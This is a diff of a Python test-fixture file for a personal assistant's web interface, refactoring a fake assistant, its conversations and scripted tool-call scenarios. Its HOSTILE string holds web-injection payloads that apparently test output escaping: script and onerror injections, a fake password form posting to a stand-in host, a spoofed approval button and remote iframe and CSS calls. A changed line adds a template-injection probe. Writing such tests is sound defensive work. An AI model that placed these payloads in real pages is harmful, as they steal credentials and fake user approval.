@@ -11,12 +11,12 @@ import datetime as dt
 import difflib
 import hashlib
 import threading
-from collections.abc import AsyncIterator, Callable, Sequence
+from collections.abc import AsyncIterator, Callable, Coroutine, Sequence
 from contextlib import asynccontextmanager
 from dataclasses import dataclass, field, replace
 from pathlib import Path
 
-from assistant.errors import CompactionError, ConflictError, SessionNotFoundError
+from assistant.errors import ConflictError, SessionNotFoundError
 from assistant.events import (
     ApprovalRequested,
     CompactionUndone,
@@ -38,7 +38,6 @@ from assistant.events import (
     TurnFinished,
     TurnStarted,
 )
-from assistant.settings import Settings
 from assistant.workspace import Workspace
 
 ZONE = dt.timezone(dt.timedelta(hours=1))
@@ -64,7 +63,7 @@ HOSTILE = """<script>window.pwned = 1</script><img src="http://198.51.100.7/a.pn
 
 <form action="http://198.51.100.7/f"><input name="password" placeholder="Your password"><button>Sign in</button></form>
 <div style="position:fixed;inset:0;background:red;z-index:99999">overlay</div>
-<div class="p-card p-approval"><button type="button" class="p-button pal pal-do--allow--Y2FsbC0x">Allow once</button></div>
+<div class="p-card p-approval"><button class="p-button pal pal-do--allow--Y2FsbC0x">Allow</button></div>
 <iframe src="http://198.51.100.7/i"></iframe><style>body{background:url(http://198.51.100.7/s)}</style>
 $$<img src="http://198.51.100.7/m.png" onerror="window.pwned = 3">$$
 
@@ -115,7 +114,7 @@ class FakeItem:
     """A piece of what the model sees."""
 
     part: Part
-    title: str
+    label: str
     text: str
     tokens: int
 
@@ -137,6 +136,22 @@ class FakeNote:
     text: str
     digest: str
     notice: str | None = None
+
+
+@dataclass(frozen=True, slots=True)
+class FakeNumbered:
+    """A live event and its place."""
+
+    number: int
+    event: Event
+
+
+@dataclass(frozen=True, slots=True)
+class FakePast:
+    """What a new reader gets."""
+
+    history: list[Event]
+    start: int
 
 
 class FakeNotes:
@@ -174,8 +189,8 @@ class FakeConversation:
         self.continued = 0
         self._queue: list[str] = []
         self._task: asyncio.Task[None] | None = None
-        self._told = asyncio.Condition()
-        self._used = 18_400
+        self._told = asyncio.Event()
+        self.used_tokens = 18_400
         self._turns = 0
 
     @property
@@ -187,12 +202,15 @@ class FakeConversation:
         if not self.title:
             self.title = text[:60]
         if not self.is_running:
-            self._task = asyncio.create_task(self._work())
+            self._begin(self._work())
 
-    def answer(self, call_id: str, allow: bool) -> None:
-        self.answers[call_id] = allow
-        if not self.is_running:
-            self._task = asyncio.create_task(self._go_on(call_id, allow))
+    @property
+    def queued(self) -> tuple[str, ...]:
+        return tuple(self._queue)
+
+    def answer(self, call_id: str, is_allowed: bool) -> None:
+        self.answers[call_id] = is_allowed
+        self._begin(self._go_on(call_id, is_allowed))
 
     async def stop(self) -> None:
         if self._task is not None:
@@ -201,37 +219,33 @@ class FakeConversation:
 
     def continue_turn(self) -> None:
         self.continued += 1
-        self._task = asyncio.create_task(self._resume("Going on where it was cut."))
+        self._begin(self._resume("Going on where it was cut."))
 
     def retry(self) -> None:
         self.retried += 1
-        self._task = asyncio.create_task(self._resume("The second try worked."))
+        self._begin(self._resume("The second try worked."))
 
-    async def compact(self, hint: str = "", preview: bool = False) -> None:
-        await self._tell(compaction("manual-1", summary=f"{SUMMARY}\n{hint}".strip(), reason="manual"))
-        self._used = 24_000
-        await self._tell(self.measure())
+    def compact(self, hint: str = "") -> None:
+        self._begin(self._compact(hint))
 
-    async def undo(self) -> None:
-        standing = [event for event in self.events if isinstance(event, ContextCompressed)]
-        if not standing:
-            raise CompactionError("There is no compaction to undo.")
-        self._used = 91_000
-        await self._tell(CompactionUndone(standing[-1].compaction_id, standing[-1].folded_messages))
-        await self._tell(self.measure())
+    def undo(self) -> None:
+        self._begin(self._undo())
 
-    def history(self) -> list[Event]:
-        return list(self.past)
+    def attach(self) -> FakePast:
+        return FakePast(list(self.past), 0)
 
-    async def follow(self, after: int = 0) -> AsyncIterator[tuple[int, Event]]:
+    async def follow(self, start: int) -> AsyncIterator[FakeNumbered]:
+        number = start
         while True:
-            while after < len(self.events):
-                after += 1
-                yield after, self.events[after - 1]
-            async with self._told:
-                await self._told.wait()
+            while number < len(self.events):
+                yield FakeNumbered(number, self.events[number])
+                number += 1
+            await self._told.wait()
 
-    def context_view(self) -> list[FakeItem]:
+    def measure(self) -> None:
+        self._tell(measured(self.used_tokens))
+
+    def context_items(self) -> list[FakeItem]:
         return [
             FakeItem("system", "Working rules", "You are a personal assistant.", 1_850),
             FakeItem("soul", "SOUL.md", "Calm, exact, brief.", 240),
@@ -240,49 +254,68 @@ class FakeConversation:
             FakeItem("tools", "9 tools", "Bash, Read, Write, Edit, Glob, Grep, …", 2_900),
             FakeItem("summary", "Summary of 46 messages", SUMMARY, 1_480),
             FakeItem("messages", "You: Move the dentist to Friday", "Move the dentist to Friday.", 14),
-            FakeItem("messages", "Bash result", "${1+1} {{value}} <b>not bold</b>", 5_200),
+            FakeItem("messages", "Bash result", "${window.pwned = 9} {{value}} <b>not bold</b>", 5_200),
             FakeItem("messages", "Palimpsest: Friday is free after 15:00", "Friday is free after 15:00.", 5_786),
         ]
 
-    def measure(self) -> ContextMeasured:
-        return measured(self._used)
+    def _begin(self, work: Coroutine[None, None, None]) -> None:
+        self._task = asyncio.create_task(work)
 
-    async def _tell(self, event: Event) -> None:
+    async def _compact(self, hint: str) -> None:
+        self._tell(compaction(f"manual-{len(self.events)}", summary=f"{SUMMARY}\n\n{hint}".strip(), reason="manual"))
+        self.used_tokens = 24_000
+        self.measure()
+
+    async def _undo(self) -> None:
+        undone = {event.compaction_id for event in self.events if isinstance(event, CompactionUndone)}
+        standing = [
+            event
+            for event in [*self.past, *self.events]
+            if isinstance(event, ContextCompressed) and event.compaction_id not in undone
+        ]
+        if not standing:
+            self._tell(Notice("There is no compaction to undo."))
+            return
+        self.used_tokens = 91_000
+        self._tell(CompactionUndone(standing[-1].compaction_id, standing[-1].folded_messages))
+        self.measure()
+
+    def _tell(self, event: Event) -> None:
         self.events.append(event)
-        async with self._told:
-            self._told.notify_all()
+        told, self._told = self._told, asyncio.Event()
+        told.set()
 
     async def _work(self) -> None:
         while self._queue:
             text = self._queue.pop(0)
             self._turns += 1
             turn_id = f"{self.session_id}-turn-{self._turns}"
-            await self._tell(TurnStarted(turn_id, f"{turn_id}-question", text, NOW.isoformat()))
+            self._tell(TurnStarted(turn_id, f"{turn_id}-question", text, NOW.isoformat()))
             await self._play(turn_id, _scenario_for(text)(self, text))
 
     async def _play(self, turn_id: str, events: AsyncIterator[Event]) -> None:
         try:
             async for event in events:
                 if isinstance(event, (TurnFinished, TurnFailed)):
-                    await self._tell(replace(event, turn_id=turn_id))
+                    self._tell(replace(event, turn_id=turn_id))
                     return
-                await self._tell(event)
+                self._tell(event)
                 await asyncio.sleep(self.pace_seconds)
-            self._used = min(self._used + 3_000, WINDOW)
-            await self._tell(self.measure())
-            await self._tell(TurnFinished(turn_id, "completed", self._used, 220, NOW.isoformat()))
+            self.used_tokens = min(self.used_tokens + 3_000, WINDOW)
+            self.measure()
+            self._tell(TurnFinished(turn_id, "completed", self.used_tokens, 220, NOW.isoformat()))
         except asyncio.CancelledError:
-            await self._tell(TurnFinished(turn_id, "interrupted", at=NOW.isoformat()))
+            self._tell(TurnFinished(turn_id, "interrupted", at=NOW.isoformat()))
             raise
 
     async def _go_on(self, call_id: str, allow: bool) -> None:
         turn_id = f"{self.session_id}-turn-{self._turns}"
-        await self._tell(TurnStarted(turn_id, "", "", NOW.isoformat()))
+        self._tell(TurnStarted(turn_id, "", "", NOW.isoformat()))
         await self._play(turn_id, _after_approval(call_id, allow))
 
     async def _resume(self, text: str) -> None:
         turn_id = f"{self.session_id}-turn-{self._turns}"
-        await self._tell(TurnStarted(turn_id, "", "", NOW.isoformat()))
+        self._tell(TurnStarted(turn_id, "", "", NOW.isoformat()))
         await self._play(turn_id, _words(f"again-{self.retried}-{self.continued}", text))
 
 
@@ -290,33 +323,52 @@ class FakeConversation:
 class FakeAssistant:
     """The assistant of the page's tests."""
 
-    settings: Settings
     workspace: Workspace
-    model: FakeModel | None = field(default_factory=FakeModel)
+    model: FakeModel = field(default_factory=FakeModel)
     pace_seconds: float = 0.01
     gate: threading.Event = field(default_factory=threading.Event)
-    conversations: dict[str, FakeConversation] = field(default_factory=dict)
     report: FakeReport = FakeReport(True, "qwen3-max answered in 0.8 s and called one tool.")
 
     def __post_init__(self) -> None:
         self.notes = FakeNotes(self.workspace)
+        self.conversations = FakeConversations(self.pace_seconds, self.gate)
 
-    def conversation(self, session_id: str) -> FakeConversation:
-        if session_id not in self.conversations:
-            raise SessionNotFoundError(session_id)
-        return self.conversations[session_id]
-
-    def new_conversation(self) -> FakeConversation:
-        return self.add_conversation(f"session-{len(self.conversations) + 1}", "")
-
-    def add_conversation(self, session_id: str, title: str, past: Sequence[Event] = ()) -> FakeConversation:
-        conversation = FakeConversation(session_id, title, self.pace_seconds, self.gate)
-        conversation.past = list(past)
-        self.conversations[session_id] = conversation
+    async def submit(self, conversation: FakeConversation, text: str) -> FakeConversation:
+        conversation.ask(text)
         return conversation
 
-    def sessions(self) -> list[FakeSession]:
-        newest_first = list(reversed(self.conversations.values()))
+    async def reconnect_model(self) -> FakeModel:
+        self.model = FakeModel()
+        return self.model
+
+    async def test_connection(self) -> FakeReport:
+        return self.report
+
+
+class FakeConversations:
+    """All conversations of the fake home."""
+
+    def __init__(self, pace_seconds: float, gate: threading.Event) -> None:
+        self.known: dict[str, FakeConversation] = {}
+        self._pace_seconds = pace_seconds
+        self._gate = gate
+
+    def open(self, session_id: str) -> FakeConversation:
+        if session_id not in self.known:
+            raise SessionNotFoundError(session_id)
+        return self.known[session_id]
+
+    def create(self) -> FakeConversation:
+        return self.add(f"session-{len(self.known) + 1}", "")
+
+    def add(self, session_id: str, title: str, past: Sequence[Event] = ()) -> FakeConversation:
+        conversation = FakeConversation(session_id, title, self._pace_seconds, self._gate)
+        conversation.past = list(past)
+        self.known[session_id] = conversation
+        return conversation
+
+    def summaries(self) -> list[FakeSession]:
+        newest_first = list(reversed(self.known.values()))
         return [
             FakeSession(
                 conversation.session_id,
@@ -325,13 +377,6 @@ class FakeAssistant:
             )
             for index, conversation in enumerate(newest_first)
         ]
-
-    async def reconnect_model(self) -> FakeModel:
-        self.model = FakeModel()
-        return self.model
-
-    async def test_connection(self) -> FakeReport:
-        return self.report
 
 
 def fake_assistant(home: Path, **values: object) -> FakeAssistant:
@@ -349,7 +394,7 @@ def fake_assistant(home: Path, **values: object) -> FakeAssistant:
     for name, text in texts.items():
         if not (home / name).exists():
             (home / name).write_text(text, "utf-8")
-    return FakeAssistant(Settings(home=home), workspace, **values)  # type: ignore[arg-type]
+    return FakeAssistant(workspace, **values)  # type: ignore[arg-type]
 
 
 @asynccontextmanager
@@ -358,7 +403,7 @@ async def opened(assistant: FakeAssistant) -> AsyncIterator[FakeAssistant]:
     try:
         yield assistant
     finally:
-        for conversation in assistant.conversations.values():
+        for conversation in assistant.conversations.known.values():
             await conversation.stop()
 
 
@@ -423,14 +468,14 @@ async def _words(block_id: str, text: str) -> AsyncIterator[Event]:
 
 
 async def _echo(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
-    yield conversation.measure()
+    yield measured(conversation.used_tokens)
     async for event in _words(f"echo-{len(conversation.events)}", f"You said: **{text}**"):
         yield event
 
 
 async def _slow(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
     block = f"slow-{len(conversation.events)}"
-    yield conversation.measure()
+    yield measured(conversation.used_tokens)
     yield TextDelta(block, "It begins")
     while not conversation.gate.is_set():
         yield TextDelta(block, " …")
@@ -440,12 +485,16 @@ async def _slow(conversation: FakeConversation, text: str) -> AsyncIterator[Even
 
 async def _tools(conversation: FakeConversation, text: str) -> AsyncIterator[Event]:
     mark = len(conversation.events)
-    yield conversation.measure()
-    async for event in _words(f"think-{mark}", "The person wants Friday. I look into the notes and the calendar first."):
+    yield measured(conversation.used_tokens)
+    async for event in _words(
+        f"think-{mark}", "The person wants Friday. I look into the notes and the calendar first."
+    ):
         assert isinstance(event, TextDelta)
         yield ThinkingDelta(event.block_id, event.text)
     yield ToolStarted(f"search-{mark}", "memory_search", '{"query": "dentist", "max_results": 5}')
-    yield ToolFinished(f"search-{mark}", "memory_search", "success", "memory/2026-11-27.md:3  Dentist on Thursday 10:30")
+    yield ToolFinished(
+        f"search-{mark}", "memory_search", "success", "memory/2026-11-27.md:3  Dentist on Thursday 10:30"
+    )
     yield ToolStarted(f"bash-{mark}", "Bash", '{"command": "grep -rn \\"Friday\\" calendar/ | head -20"}')
     yield ToolOutput(f"bash-{mark}", "calendar/friday.md:1: free from 15:00\n")
     yield ToolFinished(
@@ -485,7 +534,7 @@ async def _edit(conversation: FakeConversation, text: str) -> AsyncIterator[Even
         call,
         "Edit",
         '{"file_path": "plan.md"}',
-        "--- plan.md\n+++ plan.md\n@@ -1,3 +1,3 @@\n # Plan\n-- Dentist on Thursday\n+- Dentist on Friday 15:30\n - Pack",
+        "--- plan.md\n+++ plan.md\n@@ -1,3 +1,3 @@\n # Plan\n-- Dentist on Thursday\n+- Dentist on Friday\n - Pack",
         "It changes a file in the workspace.",
     )
     yield TurnFinished("", "awaiting_approval", at=NOW.isoformat())
@@ -507,8 +556,8 @@ async def _compact(conversation: FakeConversation, text: str) -> AsyncIterator[E
     mark = len(conversation.events)
     yield measured(91_200)
     yield compaction(f"compaction-{mark}")
-    conversation._used = 23_700
-    yield conversation.measure()
+    conversation.used_tokens = 23_700
+    yield measured(conversation.used_tokens)
     async for event in _words(f"folded-{mark}", "The older part is folded. I go on with the dentist."):
         yield event
 
